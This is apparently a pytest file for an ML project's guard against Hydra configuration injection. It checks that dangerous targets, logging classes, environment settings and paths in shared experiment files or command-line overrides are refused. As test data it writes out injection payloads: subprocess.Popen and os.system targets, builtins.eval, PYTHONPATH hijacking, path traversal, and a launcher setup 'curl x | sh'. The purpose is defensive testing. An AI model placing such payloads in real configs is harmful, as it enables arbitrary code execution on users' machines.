"""Hydra's own _target_s (callbacks, launcher, sweeper), logging classes and env_set are refused before Hydra
builds them (issue 13): from a shared experiment file and from the command line, exit 2 naming the field, and
the marker file the payload would write is never created."""

from __future__ import annotations

import pickle
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from omegaconf import OmegaConf
from testkit import REPO, compose_config, run_cli

import torchsnn.run  # installs the guard in this process
from torchsnn.config.hydra_guard import ALLOWED_PLUGINS, HydraConfigError, check_hydra_config
from torchsnn.errors import ConfigError

# numpy.savetxt writes a file and is not on Hydra's own target blocklist: a payload that would succeed
SAVETXT = "numpy.savetxt"


def payloads(marker: Path) -> dict[str, tuple[str, str]]:
    """name -> (an override that would write ``marker``, the field the refusal must name)."""
    save = f"{{_target_:{SAVETXT},fname:{marker},X:[1]}}"
    return {
        "callback": (f"+hydra.callbacks.x={save}", "hydra.callbacks.x"),
        "launcher nested": (f"+hydra.launcher.x={save}", "hydra.launcher.x._target_"),
        "sweeper nested": (f"+hydra.sweeper.x={save}", "hydra.sweeper.x._target_"),
        "logging class": (
            f"+hydra.job_logging.handlers.x={{class:{SAVETXT},fname:{marker},X:[1]}}",
            "hydra.job_logging.handlers.x.class",
        ),
        "hydra logging class": (
            f"+hydra.hydra_logging.handlers.x={{class:{SAVETXT},fname:{marker},X:[1]}}",
            "hydra.hydra_logging.handlers.x.class",
        ),
        "log file outside": (
            f"+hydra.job_logging.handlers.x={{class:logging.FileHandler,filename:{marker}}}",
            "hydra.job_logging.handlers.x.filename",
        ),
    }


def refused(proc: subprocess.CompletedProcess, field: str, marker: Path) -> None:
    out = proc.stdout + proc.stderr
    assert proc.returncode == 2, out[-3000:]
    assert f"invalid configuration: {field}" in out, out[-3000:]
    assert "Traceback" not in out, out[-3000:]
    assert not marker.exists(), "the payload ran"


# ---------------------------------------------------------------- through the entry point (subprocesses)
def test_shared_experiment_file_with_a_callback_is_refused_and_nothing_runs(tmp_path):
    marker = tmp_path / "pwned"
    (tmp_path / "conf" / "experiment").mkdir(parents=True)
    (tmp_path / "conf" / "experiment" / "shared.yaml").write_text(
        textwrap.dedent(
            f"""\
            # @package _global_
            hydra:
              callbacks:
                x:
                  _target_: subprocess.Popen
                  args: [[touch, {marker}]]
            """
        )
    )
    run_dir = tmp_path / "run"
    proc = run_cli("--config-dir", str(tmp_path / "conf"), "+experiment=shared", f"hydra.run.dir={run_dir}")
    refused(proc, "hydra.callbacks.x = 'subprocess.Popen'", marker)
    assert not run_dir.exists()  # refused before Hydra made the run folder


def test_command_line_payloads_are_refused_and_nothing_runs(tmp_path):
    """All payloads in one process each would cost ~1 s apiece: the command line route once per kind of node
    Hydra builds (callback, logging), the rest in-process below."""
    for name in ("callback", "logging class"):
        marker = tmp_path / name.replace(" ", "_")
        override, field = payloads(marker)[name]
        proc = run_cli(override, f"hydra.run.dir={tmp_path / 'run'}")
        refused(proc, field, marker)


def test_a_launcher_that_is_not_hydras_is_refused_in_a_multirun(tmp_path):
    marker = tmp_path / "pwned"
    proc = run_cli(
        "-m", f"hydra.launcher._target_={SAVETXT}", f"+hydra.launcher.fname={marker}", "seed=1,2",
        f"hydra.sweep.dir={tmp_path / 'sweep'}",
    )  # fmt: skip
    refused(proc, f"hydra.launcher._target_ = '{SAVETXT}'", marker)


def test_one_bad_job_of_a_joblib_sweep_stops_the_sweep_before_any_job_runs(tmp_path):
    """Per-job configs are composed (and checked) before the first job of the batch starts."""
    marker = tmp_path / "pwned"
    conf = tmp_path / "conf" / "experiment"
    conf.mkdir(parents=True)
    (conf / "ok.yaml").write_text("# @package _global_\nseed: 7\n")
    (conf / "bad.yaml").write_text("# @package _global_\nhydra:\n  job:\n    env_set:\n      TORCHSNN_EXTENSIONS: os\n")
    sweep = tmp_path / "sweep"
    proc = run_cli(
        "-m", "--config-dir", str(tmp_path / "conf"), "hydra/launcher=joblib", "hydra.launcher.n_jobs=2",
        "+experiment=ok,bad", "mode=theory", f"hydra.sweep.dir={sweep}",
    )  # fmt: skip
    refused(proc, "hydra.job.env_set.TORCHSNN_EXTENSIONS = 'os'", marker)
    assert not any(p.is_dir() for p in sweep.glob("*")), "a job of the sweep ran"


def test_workers_that_unpickle_the_task_function_install_the_guard():
    """joblib / submitit workers unpickle the task function: that imports torchsnn.run, which wraps the loader."""
    cloudpickle = pytest.importorskip("cloudpickle")  # what joblib's loky workers use

    task = torchsnn.run.main.__wrapped__
    code = (
        "import sys, cloudpickle; cloudpickle.loads(sys.stdin.buffer.read());"
        "from hydra._internal.config_loader_impl import ConfigLoaderImpl as C;"
        "print(getattr(C.load_configuration, '_torchsnn_guard', False))"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code], input=cloudpickle.dumps(task), capture_output=True, cwd=REPO, check=True
    )
    assert proc.stdout.decode().strip() == "True"


# ---------------------------------------------------------------- in-process: every payload, the shipped configs
@pytest.mark.parametrize("name", list(payloads(Path("/x"))))
def test_every_payload_is_refused_when_hydra_composes(name, tmp_path):
    marker = tmp_path / "pwned"
    override, field = payloads(marker)[name]
    with pytest.raises(ConfigError) as err:
        compose_config([override])
    assert err.value.field == field
    assert not marker.exists()


LAUNCHER = sorted(ALLOWED_PLUGINS["launcher"])[0]
HANDLERS = "hydra.job_logging.handlers"
BAD_HYDRA_NODES = [
    ({"callbacks": {"log": {"_target_": "hydra.experimental.callbacks.LogJobReturnCallback"}}}, "hydra.callbacks.log"),
    ({"sweeper": {"_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.X"}}, "hydra.sweeper._target_"),
    ({"launcher": {"_target_": "${oc.env:EVIL_TARGET}"}}, "hydra.launcher._target_"),
    ({"job_logging": {"formatters": {"f": {"()": "builtins.eval"}}}}, "hydra.job_logging.formatters.f.()"),
    ({"job_logging": {"handlers": {"h": {"stream": "ext://antigravity.x"}}}}, f"{HANDLERS}.h.stream"),
    ({"job_logging": {"handlers": {"h": {"filename": "${hydra.runtime.output_dir}/../x"}}}}, f"{HANDLERS}.h.filename"),
    ({"job": {"name": "x", "env_set": {"PYTHONPATH": "/tmp"}}}, "hydra.job.env_set.PYTHONPATH"),
    ({"launcher": {"_target_": LAUNCHER, "setup": ["curl x | sh"]}}, "hydra.launcher.setup"),
    ({"output_subdir": "../../elsewhere"}, "hydra.output_subdir"),
    ({"searchpath": [{"_target_": "os.system"}]}, "hydra.searchpath[0]._target_"),
]


@pytest.mark.parametrize("hydra, field", BAD_HYDRA_NODES)
def test_check_hydra_config_names_the_field(hydra, field):
    cfg = OmegaConf.create({"hydra": {"job": {"name": "run", **hydra.pop("job", {})}, **hydra}})
    with pytest.raises(HydraConfigError) as err:
        check_hydra_config(cfg)
    assert err.value.field == field
    assert pickle.loads(pickle.dumps(err.value)).field == field  # crosses a joblib worker boundary intact


def test_launcher_setup_given_on_the_command_line_itself_is_allowed():
    hydra = {"job": {"name": "run"}, "launcher": {"_target_": sorted(ALLOWED_PLUGINS["launcher"])[0]}}
    cfg = OmegaConf.create({"hydra": {**hydra, "launcher": {**hydra["launcher"], "setup": ["module load cuda"]}}})
    check_hydra_config(cfg, ["+hydra.launcher.setup=[module load cuda]"])


@pytest.mark.parametrize(
    "overrides",
    [[], ["hydra/launcher=joblib"], ["hydra/launcher=cluster"], ["hydra/launcher=submitit_local"],
     ["hydra/job_logging=disabled", "hydra/hydra_logging=disabled"], ["+experiment=alpha_sweep"],
     ["+hydra.job.env_set.OMP_NUM_THREADS=1"]],
)  # fmt: skip
def test_the_shipped_configs_pass_the_guard(overrides):
    compose_config(overrides)  # the guard runs inside Hydra's loader; no error is the assertion
